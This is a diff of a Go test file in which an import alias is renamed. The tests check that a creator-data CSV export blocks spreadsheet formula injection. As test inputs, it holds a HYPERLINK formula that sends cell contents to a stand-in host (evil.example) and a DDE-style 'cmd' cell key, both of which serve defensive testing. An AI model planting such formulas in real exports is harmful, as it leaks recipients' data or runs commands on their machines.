@@ -9,7 +9,7 @@ import (
 	"github.com/google/go-cmp/cmp"
 
 	"github.com/rapport-dev/rapport/intake"
-	p "github.com/rapport-dev/rapport/partnership"
+	"github.com/rapport-dev/rapport/partnership"
 )
 
 // What strangers wrote is opened by the brand in a spreadsheet: no cell of an export may run there, in whatever column, the header
@@ -17,11 +17,11 @@ import (
 func TestAnExportRunsNoFormulaAndIsImportedAsItWas(t *testing.T) {
 	for _, start := range []string{"=", "+", "-", "@"} {
 		evil := start + `HYPERLINK("https://evil.example?x="&A1,"open")`
-		was := p.Creator{ // niches are kept in lower case
+		was := partnership.Creator{ // niches are kept in lower case
 			Handle: "ada.scents", Name: evil, Email: "ada@mail.example", Platform: "instagram", Followers: 9000, EngagementRate: 4.2, Niche: strings.ToLower(evil), Country: "US",
 			Notes: evil, Extra: map[string]string{"agent": evil, start + "cmd|' /c calc'!a0": evil},
 		}
-		text, err := writeCreators([]p.Creator{was})
+		text, err := writeCreators([]partnership.Creator{was})
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -50,7 +50,7 @@ func TestAnExportRunsNoFormulaAndIsImportedAsItWas(t *testing.T) {
 // Of old data: an import takes no control characters any more, and blanks at the start count for none.
 func TestNoBlankHidesAFormulaInAnExport(t *testing.T) {
 	for _, start := range []string{"\t=", "\r=", "\t", "\r\n="} {
-		text, err := writeCreators([]p.Creator{{Handle: "ada.scents", Name: start + "1+1", Notes: start + "1+1"}})
+		text, err := writeCreators([]partnership.Creator{{Handle: "ada.scents", Name: start + "1+1", Notes: start + "1+1"}})
 		if err != nil {
 			t.Fatal(err)
 		}
